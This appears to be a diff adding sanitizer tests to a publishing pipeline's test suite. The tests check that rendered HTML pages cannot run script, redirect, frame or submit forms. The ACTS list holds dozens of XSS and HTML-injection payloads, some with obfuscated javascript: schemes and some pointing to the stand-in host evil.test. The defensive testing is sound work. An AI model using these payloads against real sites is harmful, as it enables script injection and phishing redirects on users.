@@ -7,7 +7,9 @@ import json
 import math
 import shutil
 import subprocess
+import sys
 from collections.abc import Mapping
+from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
@@ -19,7 +21,9 @@ from pipeline.checks import translation
 from pipeline.formats.read import read
 from pipeline.model import LocalizedArticle
 from pipeline.publish.render import front_matter, to_html, to_markdown
+from pipeline.publish.sanitize import sanitize
 from pipeline.storage import yaml
+from pipeline.text import commonmark
 from pipeline.text.source import UNREADABLE
 
 # Front matter
@@ -249,3 +253,216 @@ def test_such_a_character_of_a_source_is_told_and_left_out(suffix: str, raw: str
     localized = LocalizedArticle("a", "es", "en", meta, "One.\n", 1, 1)
     assert 'title: "A plan and more"\n' in to_markdown(localized)
     assert "<title>A plan and more</title>" in to_html(localized)
+
+
+# Pages that cannot act
+
+ACTS = [
+    '<meta http-equiv=refresh content="0;url=https://evil.test/">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=https://evil.test/">',
+    '<iframe src="https://evil.test/"></iframe>',
+    '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
+    '<form action="https://evil.test/"><input name="p"><button>x</button></form>',
+    '<input autofocus onfocus="alert(1)">',
+    '<button formaction="https://evil.test/">x</button>',
+    "<style>body { display: none }</style>",
+    '<b style="position:fixed;inset:0">x</b>',
+    '<base href="https://evil.test/">',
+    '<link rel="stylesheet" href="https://evil.test/x.css">',
+    '<object data="https://evil.test/"></object>',
+    '<embed src="https://evil.test/">',
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>',
+    "<script>alert(1)</script>",
+    "<script src=https://evil.test/x.js></script>",
+    '<img src="a.png" onerror="alert(1)">',
+    "<img src=x onerror=alert(1)//",
+    '<b onclick="alert(1)">x</b>',
+    "<b\nonclick\n=\nalert(1)>x</b>",
+    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
+    '<a href=" java&#10;script:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="vbscript:x">x</a>',
+    '<a href="x" ping="https://evil.test/" target="_blank" download>x</a>',
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea></textarea><script>alert(1)</script>",
+    '<video autoplay src="https://evil.test/x"><source onerror="alert(1)"></video>',
+    '<audio src="x" autoplay></audio>',
+    '<frameset onload="alert(1)"><frame src="https://evil.test/"></frameset>',
+    '<map name="m"><area href="javascript:alert(1)"></map>',
+    '<marquee onstart="alert(1)">x</marquee>',
+    "<plaintext>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<title><script>alert(1)</script></title>",
+    "<dialog open>x</dialog>",
+    "</article></body><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<!-- --!><script>alert(1)</script> -->",
+    "<b/onclick=alert(1)>x</b>",
+    "<b class=notice>x</b>",
+    '<td style="text-align:left;position:fixed">x</td>',
+    '<select><option>x</option></select>',
+    "<portal src=https://evil.test/></portal>",
+    '<applet code="x"></applet>',
+    "<isindex action=javascript:alert(1)>",
+    '<p popover id="x">x</p>',
+    '<a id="x" contenteditable tabindex=1 accesskey="x">x</a>',
+]  # fmt: skip
+_SHOWN = frozenset(
+    "a abbr b bdi bdo blockquote br caption code dd del details dl dt em figcaption figure h1 h2 h3"
+    " h4 h5 h6 hr i img ins kbd li mark ol p pre rp rt ruby span strong sub summary sup table tbody"
+    " td th thead tr u ul".split()
+)
+_SAID = frozenset(
+    "align alt class colspan dir href id lang open reversed rowspan src start title value".split()
+)
+
+
+class Acts(HTMLParser):
+    """What a page has that is no text."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in _SHOWN:
+            self.found.append(tag)
+        for name, value in attrs:
+            aligned = name == "style" and tag in {"td", "th"}
+            if name not in _SAID and not (aligned and str(value).startswith("text-align:")):
+                self.found.append(name)
+            scheme = str(value).split(":")[0] if ":" in str(value) else ""
+            if name in {"href", "src"} and scheme not in {"", "http", "https", "mailto", "tel"}:
+                self.found.append(str(value))
+            if name == "class" and not str(value).startswith("language-"):
+                self.found.append(str(value))
+            if name == "style" and ";" in str(value):
+                self.found.append(str(value))
+
+
+def acting(page: str) -> list[str]:
+    reader = Acts()
+    reader.feed(page)
+    reader.close()
+    return reader.found
+
+
+def _page(body: str, approved: int = 0) -> str:
+    page = to_html(
+        LocalizedArticle("a", "es", "en", {"title": "x", "lang": "es"}, body, approved, 1)
+    )
+    return page.split("</h1>\n")[1].removesuffix("</article>\n</body>\n</html>\n")
+
+
+@pytest.mark.parametrize("approved", [0, 1])
+@pytest.mark.parametrize(
+    "around", ["{}\n", "One {} more.\n", "- {}\n", "> {}\n", "<div>\n{}\n</div>\n"]
+)
+def test_a_page_cannot_act(around: str, approved: int) -> None:
+    for payload in ACTS:
+        assert not [x for x in acting(_page(around.format(payload), approved)) if x != "div"], (
+            payload
+        )
+
+
+@given(st.lists(st.sampled_from(ACTS) | st.text("<>/ =\"'`!-ab\n&;:x", max_size=8), max_size=6))
+def test_nothing_that_is_put_together_acts(parts: list[str]) -> None:
+    for text in ("".join(parts), commonmark.render("".join(parts))):
+        once = sanitize(text)
+        assert sanitize(once) == once
+        assert not acting(once)
+
+
+SHOWS = """\
+Un [enlace](https://a.example/x?a=1&b=2 "título \\"a\\"")
+y <https://b.example/> &amp; “más” "citas" 'a' a b ©.
+
+<mark lang="en" dir="ltr">One sentence.</mark> <mark>Otra.</mark>
+Una nota[^1] <sup id="n1">1</sup> H<sub>2</sub>O
+<kbd>Ctrl</kbd><del datetime="2025-01-01">a</del><ins>b</ins>
+<abbr title="a &quot;b&quot;">ab</abbr><br>y<br/>z
+
+![alt "x"](a.png "t") <img src="b.png" alt="" width="10">
+<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>
+
+| a | b | c |
+|:--|:-:|--:|
+| 1 | `<x>` | 3 |
+
+3. tres
+4. cuatro
+
+```python
+x < 1 and "y"
+```
+
+<details open>
+<summary>Más</summary>
+
+Texto *oculto*.
+
+</details>
+
+<figure>
+<img src="c.png" alt="c" />
+<figcaption>Pie</figcaption>
+</figure>
+
+<table>
+<tbody><tr><th colspan="2" rowspan="1" lang="es">x</th></tr></tbody>
+</table>
+
+<ol reversed start="3">
+<li value="7">x</li>
+</ol>
+
+<dl><dt>a</dt><dd>b</dd></dl>
+
+<!-- more -->
+
+<a href="mailto:a@b.example">a</a> <a href="tel:+1">b</a> <a href="/c#d">c</a> <a href="../e">e</a>
+
+***
+
+    code
+"""
+
+
+def test_what_shows_stays_byte_for_byte() -> None:
+    rendered = commonmark.render(SHOWS)
+    assert sanitize(rendered) == rendered
+
+
+@pytest.mark.parametrize(
+    "case", sorted(Path(__file__).parent.glob("golden/*/expected.md")), ids=str
+)
+def test_golden_pages_stay_byte_for_byte(case: Path) -> None:
+    rendered = commonmark.render(case.read_text(encoding="utf-8").split("---\n", 2)[2])
+    assert sanitize(rendered) == rendered
+
+
+@given(st.text("ab <>&\"'*_`[]()!#-|\n\\ é😀.1:/"))
+def test_markdown_without_html_stays_byte_for_byte(body: str) -> None:
+    from markdown_it import MarkdownIt
+
+    rendered = MarkdownIt("commonmark", {"html": False}).enable("table").render(body)
+    assert sanitize(rendered) == rendered
+
+
+def test_the_policy_of_a_page() -> None:
+    page = to_html(LocalizedArticle("a", "es", "en", {"title": "x"}, "One.\n", 0, 1))
+    policy = page.split('Content-Security-Policy" content="')[1].split('"')[0]
+    told = dict(part.strip().split(" ", 1) for part in policy.split(";"))
+    for kind in ("default", "script", "object", "frame"):
+        assert told[f"{kind}-src"] == "'none'"
+    assert told["base-uri"] == told["form-action"] == "'none'"
+
+
+def test_nh3_is_loaded_for_a_page_alone() -> None:
+    code = "import sys, pipeline.publish.render, pipeline.cli; sys.exit('nh3' in sys.modules)"
+    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
